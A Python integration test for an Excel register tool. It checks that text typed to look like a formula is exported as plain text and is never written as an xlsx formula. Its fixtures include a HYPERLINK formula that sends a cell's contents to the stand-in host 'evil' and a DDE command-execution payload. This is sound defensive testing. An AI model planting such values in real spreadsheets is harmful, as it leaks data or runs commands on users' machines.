"""What the hostile review of the register found, each on real files, a real encrypted folder and the real
command line: no formula ever written into an xlsx, a refused re-import row stops an all-or-nothing import,
an unreadable workbook said as such, several sheets."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook

from tests.integration.test_register import row
from tests.integration.test_register_year import cli, new_folder
from tests.support.register import FR

TYPED = {"Remarques": '=HYPERLINK("http://evil/?"&A1,"x")', "Professionnel annonceur": "@SUM(1+1)"}


def typed_workbook(rows: list[list[Any]], headers: list[str] = FR) -> bytes:
    """A register as a person types it in Excel: every text cell a string (a leading "=" typed as text)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for values in [headers, *rows]:
        sheet.append(values)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def cells(path: Path) -> list[tuple[Any, ...]]:
    book = load_workbook(path, read_only=True, data_only=True)
    try:
        return [tuple(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()


def test_text_typed_like_a_formula_is_exported_as_text_and_round_trips(tmp_path: Path) -> None:
    source = tmp_path / "typed.xlsx"
    source.write_bytes(typed_workbook([
        row(**TYPED), row(Nom="Favre", Remarques="+41 79 000 00 00"),
        row(Nom="Moret", Remarques="-5 jours", **{"Professionnel annonceur": "=cmd|' /C calc'!A0"})]))
    first, second = new_folder(tmp_path, "first"), new_folder(tmp_path, "second")
    assert cli("import-register", "--data-dir", str(first), str(source)).returncode == 0
    exported = tmp_path / "export.xlsx"
    done = cli("export-register", "--data-dir", str(first), "--out", str(exported))
    assert done.returncode == 0, done.stderr
    assert "<f>" not in sheet_xml(exported) and "<f " not in sheet_xml(exported)
    texts = {v for r in cells(exported) for v in r if isinstance(v, str)}
    assert {TYPED["Remarques"], "@SUM(1+1)", "+41 79 000 00 00", "-5 jours", "=cmd|' /C calc'!A0"} <= texts
    # export -> import into an empty folder -> export again: the text as typed, still no formula
    assert cli("import-register", "--data-dir", str(second), str(exported)).returncode == 0
    again = tmp_path / "again.xlsx"
    assert cli("export-register", "--data-dir", str(second), "--out", str(again)).returncode == 0
    assert cells(again) == cells(exported) and "<f>" not in sheet_xml(again)
    report = tmp_path / "report.xlsx"
    assert cli("stats", "--data-dir", str(second), "--year", "2026", "--out", str(report)).returncode == 0
    assert "<f>" not in sheet_xml(report)
    template = tmp_path / "template.xlsx"
    assert cli("import-register", "--template", str(template)).returncode == 0
    assert "<f>" not in sheet_xml(template)


def stats(folder: Path) -> dict[str, Any]:
    done = cli("stats", "--data-dir", str(folder), "--year", "2026", "--json")
    assert done.returncode == 0, done.stderr
    figures: dict[str, Any] = json.loads(done.stdout)
    return figures
